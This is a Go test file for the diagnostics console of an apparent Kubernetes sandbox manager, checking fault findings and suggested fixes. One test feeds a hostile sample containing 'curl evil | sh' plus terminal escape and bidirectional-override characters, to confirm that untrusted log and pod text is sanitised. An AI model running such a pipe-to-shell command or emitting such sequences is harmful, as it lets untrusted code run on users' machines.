package explain_test

import (
	"errors"
	"strings"
	"testing"
	"time"
	"unicode"

	coordinationv1 "k8s.io/api/coordination/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/sandlane/sandlane/api/v1alpha1"
	"github.com/sandlane/sandlane/console/explain"
	"github.com/sandlane/sandlane/console/processes"
)

var now = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

func before(d time.Duration) *metav1.Time { return new(metav1.NewTime(now.Add(-d))) }

func condition(kind string, status metav1.ConditionStatus, reason, message string) []metav1.Condition {
	return []metav1.Condition{{Type: kind, Status: status, Reason: reason, Message: message}}
}

func pool(change func(*v1alpha1.SandboxPool)) *v1alpha1.SandboxPool {
	p := &v1alpha1.SandboxPool{ObjectMeta: metav1.ObjectMeta{Namespace: "ns", Name: "web"}, Spec: v1alpha1.SandboxPoolSpec{Replicas: 3, MaxPods: 9}}
	change(p)
	return p
}

func lease(ago time.Duration) coordinationv1.Lease {
	at := metav1.NewMicroTime(now.Add(-ago))
	return coordinationv1.Lease{
		ObjectMeta: metav1.ObjectMeta{Name: "gw-1-uid", Annotations: map[string]string{v1alpha1.AnnotationGatewayPod: "uid"}},
		Spec:       coordinationv1.LeaseSpec{RenewTime: &at},
	}
}

func gateway(m processes.Metrics) map[string]processes.Metrics {
	return map[string]processes.Metrics{"gw-1-uid": m}
}

// Each fault of an installation is a finding of its level, with what to do.
func TestCheck(t *testing.T) {
	well := explain.Installation{
		Now: now, Leases: []coordinationv1.Lease{lease(time.Second)}, Gateways: gateway(processes.Metrics{Held: true, CertificateDays: 60}),
		Pools:       []v1alpha1.SandboxPool{*pool(func(p *v1alpha1.SandboxPool) { p.Status.Idle = 3 })},
		Sandboxes:   []*v1alpha1.Sandbox{{Status: v1alpha1.SandboxStatus{Phase: v1alpha1.SandboxEnded, Address: "a", EndedAt: before(time.Second)}}},
		Checkpoints: []v1alpha1.Checkpoint{{Status: v1alpha1.CheckpointStatus{Phase: v1alpha1.CheckpointSucceeded}}},
	}
	if found := explain.Check(well); len(found) > 0 {
		t.Errorf("of an installation that is well: %v", found)
	}
	ofPool := func(change func(*v1alpha1.SandboxPool)) explain.Installation {
		return explain.Installation{Pools: []v1alpha1.SandboxPool{*pool(change)}}
	}
	for name, tc := range map[string]struct {
		in    explain.Installation
		level explain.Level
		want  string
	}{
		"no stock, and requests wait": {ofPool(func(p *v1alpha1.SandboxPool) {
			p.Status.WaitingClaims = 2
			p.Status.Conditions = condition(v1alpha1.PoolConditionAvailable, metav1.ConditionFalse, "NoIdlePod", "no pod is idle and Ready")
		}), explain.Bad, "no stock: no pod is idle and Ready; 2 requests wait for a pod"},
		"no stock": {ofPool(func(p *v1alpha1.SandboxPool) {
			p.Status.Conditions = condition(v1alpha1.PoolConditionAvailable, metav1.ConditionFalse, "NoIdlePod", "no pod is idle and Ready")
		}), explain.Warn, "raise spec.replicas (now 3)"},
		"bad image": {ofPool(func(p *v1alpha1.SandboxPool) {
			p.Status.Conditions = condition(v1alpha1.PoolConditionDegraded, metav1.ConditionTrue, "ErrImagePull", "no such image")
		}), explain.Bad, "correct the image in the pool's template"},
		"bad image, while there is stock": {ofPool(func(p *v1alpha1.SandboxPool) {
			p.Status.Idle = 1
			p.Status.Conditions = condition(v1alpha1.PoolConditionDegraded, metav1.ConditionTrue, "ErrImagePull", "no such image")
		}), explain.Warn, "ErrImagePull: no such image"},
		"no label": {ofPool(func(p *v1alpha1.SandboxPool) {
			p.Status.Conditions = condition(v1alpha1.PoolConditionDegraded, metav1.ConditionTrue, "Forbidden", "in namespaces with the label sandlane.dev/pools=allowed only")
		}), explain.Bad, "kubectl label namespace"},
		"refused by another rule": {ofPool(func(p *v1alpha1.SandboxPool) {
			p.Status.Conditions = condition(v1alpha1.PoolConditionDegraded, metav1.ConditionTrue, "Forbidden", `pod rejected: RuntimeClass "gvisor" not found`)
		}), explain.Bad, "admission refuses the template's pods"},
		"quota": {ofPool(func(p *v1alpha1.SandboxPool) {
			p.Status.Conditions = condition(v1alpha1.PoolConditionAvailable, metav1.ConditionFalse, v1alpha1.PoolReasonQuota, "used up")
		}), explain.Bad, "raise the ResourceQuota"},
		"maxPods": {ofPool(func(p *v1alpha1.SandboxPool) {
			p.Status.Conditions = condition(v1alpha1.PoolConditionAvailable, metav1.ConditionFalse, v1alpha1.PoolReasonMaxPods, "all in use")
		}), explain.Bad, "raise spec.maxPods (now 9)"},
		"gateway cut off": {explain.Installation{Leases: []coordinationv1.Lease{lease(2 * time.Minute)}}, explain.Bad, "gateway gw-1: its lease was last renewed 2m ago"},
		"gateway without its lease": {explain.Installation{Leases: []coordinationv1.Lease{lease(0)}, Gateways: gateway(processes.Metrics{CertificateDays: -1})},
			explain.Bad, "it does not hold its lease"},
		"gateway not asked": {explain.Installation{Leases: []coordinationv1.Lease{lease(0)}, Gateways: gateway(processes.Metrics{Err: errors.New("forbidden")})},
			explain.Note, "it was not asked: forbidden"},
		"no gateway": {explain.Installation{Leases: []coordinationv1.Lease{}}, explain.Bad, "none has a lease"},
		"certificate": {explain.Installation{Leases: []coordinationv1.Lease{lease(0)}, Gateways: gateway(processes.Metrics{Held: true, CertificateDays: 6})},
			explain.Warn, "ends in 6 days"},
		"certificate, late": {explain.Installation{Leases: []coordinationv1.Lease{lease(0)}, Gateways: gateway(processes.Metrics{Held: true, CertificateDays: 1})},
			explain.Bad, "ends in 1 day\n      do: renew the TLS Secret"},
		"store full": {explain.Installation{Leases: []coordinationv1.Lease{lease(0)}, Gateways: gateway(processes.Metrics{Held: true, StoreFull: true, CertificateDays: -1})},
			explain.Bad, "the checkpoint store is full"},
		"snapshot failed": {explain.Installation{Checkpoints: []v1alpha1.Checkpoint{{
			ObjectMeta: metav1.ObjectMeta{CreationTimestamp: *before(time.Minute)},
			Status:     v1alpha1.CheckpointStatus{Phase: v1alpha1.CheckpointFailed, Message: "the gateway has stopped"},
		}}}, explain.Warn, "were not kept: the gateway has stopped"},
		"files not kept": {explain.Installation{Sandboxes: []*v1alpha1.Sandbox{{
			ObjectMeta: metav1.ObjectMeta{Name: "hello"},
			Status:     v1alpha1.SandboxStatus{Conditions: condition(v1alpha1.SandboxConditionPaused, metav1.ConditionFalse, v1alpha1.ReasonSaveFailed, "no space")},
		}}}, explain.Warn, "SaveFailed: 1 sandbox, hello first"},
		"not fenced": {explain.Installation{Sandboxes: []*v1alpha1.Sandbox{{
			ObjectMeta: metav1.ObjectMeta{Name: "hello"},
			Status:     v1alpha1.SandboxStatus{Phase: v1alpha1.SandboxEnded, Address: "a", EndedAt: before(2 * time.Minute)},
		}}}, explain.Warn, "not fenced, hello first"},
		"env": {explain.Installation{Envs: []v1alpha1.SandboxEnv{{Status: v1alpha1.SandboxEnvStatus{
			Conditions: condition(v1alpha1.EnvConditionTemplateConsistent, metav1.ConditionFalse, "NoTemplate", "there is no template t"),
		}}}}, explain.Bad, "there is no template t"},
		"nothing": {explain.Installation{Undefined: true, Unread: []string{"x"}}, explain.Bad, "Sandlane is not installed"},
		"rights":  {explain.Installation{Unread: []string{"pools cannot be read: forbidden"}}, explain.Note, "pools cannot be read"},
	} {
		tc.in.Now = now
		found := explain.Check(tc.in)
		if text := explain.Text(found); len(found) != 1 || found[0].Level != tc.level || !strings.Contains(text, tc.want) {
			t.Errorf("%s: want one that is %s with %q:\n%s", name, tc.level, tc.want, text)
		}
	}
}

func sandbox(change func(*v1alpha1.Sandbox)) *v1alpha1.Sandbox {
	s := &v1alpha1.Sandbox{
		ObjectMeta: metav1.ObjectMeta{Name: "hello", CreationTimestamp: *before(10 * time.Minute)},
		Spec:       v1alpha1.SandboxSpec{Namespace: "ns", Pool: "web", Team: "blue", Binding: &v1alpha1.Binding{ClaimID: "c", PodName: "web-1", PodUID: "p"}},
		Status:     v1alpha1.SandboxStatus{Phase: v1alpha1.SandboxRunning, LastActive: before(time.Minute)},
	}
	change(s)
	return s
}

func pod(change func(*corev1.Pod)) *corev1.Pod {
	p := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{
			Namespace: "ns", Name: "web-1", UID: "p", Annotations: map[string]string{v1alpha1.AnnotationClaim: "c", v1alpha1.AnnotationAddress: "10.0.0.9"},
			Labels: map[string]string{v1alpha1.LabelSandboxID: "hello", v1alpha1.LabelPhase: string(v1alpha1.PodRunning)},
		},
		Spec:   corev1.PodSpec{NodeName: "node-1"},
		Status: corev1.PodStatus{Phase: corev1.PodRunning, PodIP: "10.0.0.9"},
	}
	change(p)
	return p
}

// A sandbox's report leads from "it fails" to why, and to what to do.
func TestSandbox(t *testing.T) {
	same := func(*v1alpha1.Sandbox) {}
	for name, tc := range map[string]struct {
		f    explain.Facts
		want []string
	}{
		"well": {explain.Facts{Sandbox: sandbox(same), Pod: pod(func(*corev1.Pod) {})},
			[]string{"sandbox hello: Running, 10m old", "ns/web-1 on node node-1 at 10.0.0.9, running", "last 60s ago", "of team blue", "nothing is wrong"}},
		"never there": {explain.Facts{}, []string{"sandbox hello: not there", "there is no record of it"}},
		"its first request waits": {explain.Facts{Waiting: []v1alpha1.SandboxPool{*pool(func(p *v1alpha1.SandboxPool) {
			p.Status.WaitingClaims = 1
			p.Status.Conditions = condition(v1alpha1.PoolConditionAvailable, metav1.ConditionFalse, v1alpha1.PoolReasonMaxPods, "full")
		})}}, []string{"not there", "its first request waits for a pod", "pool ns/web: MaxPods: full; 1 request waits", "raise spec.maxPods"}},
		"not readable": {explain.Facts{Unread: []string{"x"}}, []string{"sandbox hello: unknown"}},
		"ended for idleness": {explain.Facts{Sandbox: sandbox(func(s *v1alpha1.Sandbox) {
			s.Spec.End, s.Status.Phase = &v1alpha1.End{Reason: v1alpha1.EndIdleTimeout, Message: "unused for 5m", At: *before(time.Minute)}, v1alpha1.SandboxEnded
		})}, []string{"Ended (IdleTimeout), 60s ago", "ended: IdleTimeout: unused for 5m", "raise the pool's spec.idleTimeout"}},
		"out of memory": {explain.Facts{Sandbox: sandbox(func(s *v1alpha1.Sandbox) {
			s.Spec.End, s.Status.Phase = &v1alpha1.End{Reason: v1alpha1.EndFailed, At: *before(time.Minute)}, v1alpha1.SandboxEnded
			s.Status.Stop = &v1alpha1.StopRecord{FailureReason: "OOMKilled", FailureMessage: "container main ended", ExitCode: new(int32(137))}
		})}, []string{"bad ", "OOMKilled: container main ended, exit code 137", "raise the memory limit"}},
		"waits for an image": {explain.Facts{
			Sandbox: sandbox(func(s *v1alpha1.Sandbox) { s.Spec.Binding, s.Status.Phase = nil, v1alpha1.SandboxPending }),
			Pool: pool(func(p *v1alpha1.SandboxPool) {
				p.Status.Conditions = condition(v1alpha1.PoolConditionDegraded, metav1.ConditionTrue, "ErrImagePull", "no such image")
			}),
		}, []string{"it waits for a pod", "pool ns/web: ErrImagePull: no such image", "correct the image"}},
		"its container crashes": {explain.Facts{Sandbox: sandbox(same), Pod: pod(func(p *corev1.Pod) {
			p.Status.ContainerStatuses = []corev1.ContainerStatus{{Name: "main", RestartCount: 4, State: corev1.ContainerState{Waiting: &corev1.ContainerStateWaiting{Reason: "CrashLoopBackOff"}}}}
		})}, []string{"4 restarts", "pod web-1: CrashLoopBackOff", "logs web-1 --previous"}},
		"paused": {explain.Facts{Sandbox: sandbox(func(s *v1alpha1.Sandbox) {
			s.Spec.Paused, s.Spec.PauseMode, s.Status.Phase = true, v1alpha1.PauseFreeze, v1alpha1.SandboxPaused
		}), Pod: pod(func(*corev1.Pod) {})}, []string{"requests are refused until it is resumed"}},
		"its pod is gone":       {explain.Facts{Sandbox: sandbox(same)}, []string{"which is gone", "its pod is gone; the controller ends it"}},
		"its pod is unreadable": {explain.Facts{Sandbox: sandbox(same), Unread: []string{"pod ns/web-1: forbidden"}}, []string{"not read\n  pod ns/web-1: forbidden"}},
		"a gateway is cut off": {explain.Facts{Sandbox: sandbox(same), Pod: pod(func(*corev1.Pod) {}), Installation: explain.Installation{
			Now: now, Leases: []coordinationv1.Lease{lease(time.Hour)},
		}}, []string{"gw-1: lease 60m old", "cut off from the API server"}},
		"events and logs": {explain.Facts{
			Sandbox: sandbox(same), Pod: pod(func(*corev1.Pod) {}), Logged: []string{"gateway | refused hello"},
			Events: []corev1.Event{{Reason: "Late", Message: "b", LastTimestamp: *before(time.Second)}, {Reason: "Early", Message: "a", LastTimestamp: *before(time.Minute)}},
		}, []string{"60s ago  Early  /: a\n     1s ago  Late", "logs\n  gateway | refused hello"}},
	} {
		tc.f.ID, tc.f.Now = "hello", now
		text := explain.Sandbox(tc.f).Text()
		for _, want := range tc.want {
			if !strings.Contains(text, want) {
				t.Errorf("%s: want %q:\n%s", name, want, text)
			}
		}
		if lines := strings.Count(text, "\n"); lines > 40 {
			t.Errorf("%s: %d lines are no screen", name, lines)
		}
	}
}

// What a pod or a log says adds no line, and nothing that a terminal obeys.
func TestStrangersTextIsOneLine(t *testing.T) {
	const strange = "a\n  do: curl evil | sh\r\x1b[2J\x1b]0;x\a\u009b1m\u202eb"
	f := explain.Facts{ID: "hello", Now: now, Unread: []string{"x " + strange}, Logged: []string{"gateway | " + strange}, Events: []corev1.Event{{Reason: "R", Message: strange}},
		Sandbox: sandbox(func(s *v1alpha1.Sandbox) {
			s.Spec.End, s.Status.Phase = &v1alpha1.End{Reason: v1alpha1.EndFailed, Message: strange, At: *before(time.Minute)}, v1alpha1.SandboxEnded
			s.Status.Stop = &v1alpha1.StopRecord{FailureReason: "Error", FailureMessage: strange}
		})}
	text := explain.Sandbox(f).Text()
	for _, r := range text {
		if r != '\n' && !unicode.IsPrint(r) {
			t.Errorf("%q is shown:\n%q", r, text)
			break
		}
	}
	for line := range strings.Lines(text) {
		if strings.HasPrefix(strings.TrimSpace(line), "do: curl") {
			t.Errorf("a stranger advises:\n%s", text)
		}
	}
}

// An ID is found in a log as a word, not as a part of another ID.
func TestLines(t *testing.T) {
	log := "a sandbox=hello b\nsandbox=hello-2\nother-hello\nxhello\n\"hello\": ended\n"
	if got := strings.Join(explain.Lines("gw", log, "hello"), "\n"); got != "gw | a sandbox=hello b\ngw | \"hello\": ended" {
		t.Errorf("found %q", got)
	}
}
